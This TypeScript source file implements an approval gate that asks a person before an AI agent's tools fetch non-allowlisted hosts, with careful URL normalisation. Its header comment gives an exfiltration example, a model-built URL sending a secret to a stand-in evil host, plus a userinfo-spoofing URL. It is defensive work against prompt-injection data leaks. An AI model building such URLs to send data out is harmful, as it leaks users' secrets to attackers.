/**
 * Ask before fetching: a URL the model builds from data is a channel out (`get_webpage_in_markdown(
 * "https://evil.example/?secret=...")`). A fetch gate wraps every tool that declares where a call
 * will go (`Tool.destinations`), and before the tool runs asks `approve(request)` about each host
 * that is neither a service the tool was set up with (`Tool.serviceUrls`), nor on the allowlist,
 * nor already allowed for this run. Denied: the call fails with a ToolError the model reads.
 *
 * Hosts are compared after the WHATWG URL parser (the one fetch uses) has normalised them:
 * userinfo (`https://allowed.com@evil.com/`) is not the host, IDN becomes punycode, `%2e` and
 * full-width dots are decoded, IPv4 in any notation becomes dotted decimal, a trailing dot goes,
 * and the port is the scheme's default unless one is written.
 */
import { L0Error, type Tool } from '../protocols';

/** A refusal; Python shows it as `ToolError: <tool>: <message>` (the tool's name is put in front there). */
const refusal = (tool: string, message: string, detail: Record<string, unknown> = {}) => new L0Error({ kind: 'tool', message, detail: { source: tool, ...detail } });

export type FetchDecision = 'once' | 'host' | 'deny';

export interface FetchApprovalRequest {
  /** The tool that wants to reach `host`. */
  tool: string;
  args: Record<string, unknown>;
  /** The URL, as the parser normalised it (what goes on the wire). */
  url: string;
  /** Host name, with the port when it is not the scheme's default (e.g. `127.0.0.1:8080`). */
  host: string;
}

export interface FetchGateOptions {
  /** Whether to ask; read at every call (a setting can change between calls). */
  ask(): boolean;
  /** The allowlist (exact hosts, `host:port`, `*.example.org`) plus other services of the deployment (e.g. the model server's URL). */
  allowedHosts(): readonly string[];
  /** Asks the person; `signal` aborts when the call is stopped (then the prompt should go). */
  approve(request: FetchApprovalRequest, signal: AbortSignal): Promise<FetchDecision>;
}

export interface FetchGate {
  /** The tool with its destinations checked before each call; a tool without `destinations` as it is. */
  wrap(tool: Tool): Tool;
  /** Forgets the hosts allowed "for this run". */
  newRun(): void;
}

/** A parsed destination: `host` is what people see and what "allow for this run" remembers. */
export interface Destination {
  host: string;
  hostname: string;
  port: number;
}

interface HostPattern {
  hostname: string;
  /** `*.example.org`: any name under it (not example.org itself). */
  wildcard: boolean;
  /** A written port, or undefined for "the default ports" (80 and 443). */
  port?: number;
}

const DEFAULT_PORTS: Record<string, number> = { 'http:': 80, 'https:': 443 };

/** Removes one trailing dot (`example.com.` is example.com to DNS); more than one is left to mismatch. */
const withoutRootDot = (name: string) => (name.endsWith('.') ? name.slice(0, -1) : name);

/** Where an http(s) URL goes; undefined for anything else (a non-web scheme, a URL the parser refuses). */
export function destinationOf(url: string): Destination | undefined {
  let u: URL;
  try {
    u = new URL(url);
  } catch {
    return undefined;
  }
  const defaultPort = DEFAULT_PORTS[u.protocol];
  if (defaultPort === undefined) return undefined;
  const hostname = withoutRootDot(u.hostname);
  if (!hostname) return undefined;
  const port = u.port ? Number(u.port) : defaultPort;
  return { hostname, port, host: u.port ? `${hostname}:${u.port}` : hostname };
}

const isIpLiteral = (hostname: string) => hostname.startsWith('[') || /^[\d.]+$/.test(hostname);

/**
 * One allowlist entry: `example.org`, `example.org:8080`, `*.example.org`, an IP literal, or a URL
 * (`https://example.org/…`: its host and port). Undefined when it is none of these.
 */
export function parseHostPattern(entry: string): HostPattern | undefined {
  let text = entry.trim().toLowerCase();
  if (!text) return undefined;
  const wildcard = text.startsWith('*.');
  if (wildcard) text = text.slice(2);
  const isUrl = /^[a-z][a-z0-9+.-]*:\/\//.test(text);
  if (isUrl && wildcard) return undefined;
  // A bare entry must be a host and nothing else: no path, userinfo, query or fragment to hide behind.
  if (!isUrl && /[/@?#\\\s]/.test(text)) return undefined;
  let u: URL;
  try {
    u = new URL(isUrl ? text : `http://${text}/`);
  } catch {
    return undefined;
  }
  if (DEFAULT_PORTS[u.protocol] === undefined || u.username || u.password) return undefined;
  const hostname = withoutRootDot(u.hostname);
  if (!hostname || hostname.includes('*') || (wildcard && (isIpLiteral(hostname) || !hostname.includes('.')))) return undefined;
  // A URL names its scheme's port; a bare host without a port means the default ports.
  const port = u.port ? Number(u.port) : isUrl ? DEFAULT_PORTS[u.protocol] : undefined;
  return { hostname, wildcard, port };
}

/** The entries of an allowlist that are not host patterns (for a settings form to point at). */
export function invalidHostPatterns(entries: readonly string[]): string[] {
  return entries.filter((e) => e.trim() && !parseHostPattern(e));
}

function patternMatches(p: HostPattern, d: Destination): boolean {
  const portOk = p.port === undefined ? d.port === 80 || d.port === 443 : p.port === d.port;
  if (!portOk) return false;
  return p.wildcard ? d.hostname.endsWith(`.${p.hostname}`) : d.hostname === p.hostname;
}

/** True when `url`'s host is on the list (entries as `parseHostPattern` reads them; bad ones match nothing). */
export function hostAllowed(url: string, entries: readonly string[]): boolean {
  const d = destinationOf(url);
  if (!d) return false;
  return entries.some((e) => {
    const p = parseHostPattern(e);
    return p !== undefined && patternMatches(p, d);
  });
}

const clip = (text: string, max = 200) => (text.length > max ? `${text.slice(0, max)}…` : text);

export function createFetchGate(options: FetchGateOptions): FetchGate {
  let allowedThisRun = new Set<string>();

  async function check(tool: Tool, args: Record<string, unknown>, ctx: Parameters<Tool['run']>[1]): Promise<void> {
    const urls = tool.destinations?.(args) ?? [];
    if (!urls.length) return;
    const patterns = [...(tool.serviceUrls ?? []), ...options.allowedHosts()].map(parseHostPattern).filter((p): p is HostPattern => p !== undefined);
    const asked = new Set<string>();
    for (const url of urls) {
      const d = destinationOf(url);
      // Fail closed: a destination we cannot place is not fetched.
      if (!d) throw refusal(tool.name, `cannot tell which host ${clip(url)} is on, so it was not fetched`);
      if (patterns.some((p) => patternMatches(p, d)) || allowedThisRun.has(d.host) || asked.has(d.host)) continue;
      asked.add(d.host);
      const request: FetchApprovalRequest = { tool: tool.name, args, url: new URL(url).href, host: d.host };
      const pending = options.approve(request, ctx.signal);
      const decision = await (ctx.waitForUser ? ctx.waitForUser(pending) : pending);
      if (decision === 'host') allowedThisRun.add(d.host);
      else if (decision !== 'once') throw refusal(tool.name, `the user did not allow fetching ${d.host}`, { denied: true, host: d.host });
    }
  }

  return {
    wrap(tool) {
      if (typeof tool.destinations !== 'function') return tool;
      return {
        ...tool,
        async run(args, ctx) {
          if (options.ask()) await check(tool, args, ctx);
          return tool.run(args, ctx);
        },
      };
    },
    newRun() {
      allowedThisRun = new Set();
    },
  };
}
